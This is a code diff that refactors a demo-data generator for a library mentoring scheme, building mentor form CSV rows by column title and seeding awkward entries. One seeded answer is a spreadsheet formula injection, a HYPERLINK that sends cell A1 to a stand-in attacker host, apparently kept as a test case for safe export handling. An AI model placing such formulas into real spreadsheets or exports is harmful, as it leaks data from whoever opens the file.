@@ -216,7 +216,19 @@ export function demoCohort({ mentors = 30, mentees = 40, seed = 2026 } = {}): De
     };
   };
 
-  const mentorRows: string[][] = [csvColumns(MENTOR_FORM)];
+  // Rows are built by column title, so a question added to the form never shifts an answer.
+  const mentorColumns = csvColumns(MENTOR_FORM);
+  const mentorRows: string[][] = [mentorColumns];
+  const mentorColumn = (title: string) => {
+    const at = mentorColumns.indexOf(title);
+    if (at < 0) throw new Error(`The mentor form has no column "${title}".`);
+    return at;
+  };
+  const mentorRow = (answers: Readonly<Record<string, string>>) => {
+    const row = mentorColumns.map(() => '');
+    for (const [title, value] of Object.entries(answers)) row[mentorColumn(title)] = value;
+    return row;
+  };
   const mentorPeople = [];
   for (let i = 0; i < mentors; i += 1) {
     const p = person(i);
@@ -225,24 +237,28 @@ export function demoCohort({ mentors = 30, mentees = 40, seed = 2026 } = {}): De
     if (renamed)
       Object.assign(p, { name: renamed, email: emailFor(...splitName(renamed), p.service) });
     mentorPeople.push(p);
-    mentorRows.push([
-      googleTimestamp(30 + i * 47),
-      p.email,
-      p.name,
-      p.service,
-      pick(TITLES),
-      'Yes',
-      someAreas(),
-      String(1 + Math.floor(random() * 3)),
-      `https://drive.google.com/file/d/demo-video-${i + 1}/view`,
-      i === 4 ? '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' : '',
-      CONSENT_OPTION,
-    ]);
+    mentorRows.push(
+      mentorRow({
+        Timestamp: googleTimestamp(30 + i * 47),
+        'Email address': p.email,
+        'Full name': p.name,
+        'Library service': p.service,
+        'Job title': pick(TITLES),
+        'Are you the Head of Service managing libraries?': 'Yes',
+        'Areas where you can offer support': someAreas(),
+        'How many mentees could you support?': String(1 + Math.floor(random() * 3)),
+        'Link to your 2-minute introduction video': `https://drive.google.com/file/d/demo-video-${i + 1}/view`,
+        'Anything else we should know?':
+          i === 4 ? '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' : '',
+        'I agree to my information being used to run the scheme': CONSENT_OPTION,
+      }),
+    );
   }
   // The awkward cases staff meet in real exports.
-  mentorRows[3][5] = 'No'; // not a Head of Service
-  mentorRows[8][7] = ''; // did not say how many mentees
-  mentorRows[12][8] = 'my video is on the shared drive'; // not a link
+  mentorRows[3][mentorColumn('Are you the Head of Service managing libraries?')] = 'No'; // not a Head of Service
+  mentorRows[8][mentorColumn('How many mentees could you support?')] = ''; // did not say how many mentees
+  mentorRows[12][mentorColumn('Link to your 2-minute introduction video')] =
+    'my video is on the shared drive'; // not a link
 
   const menteeRows: string[][] = [csvColumns(MENTEE_FORM)];
   for (let i = 0; i < mentees; i += 1) {
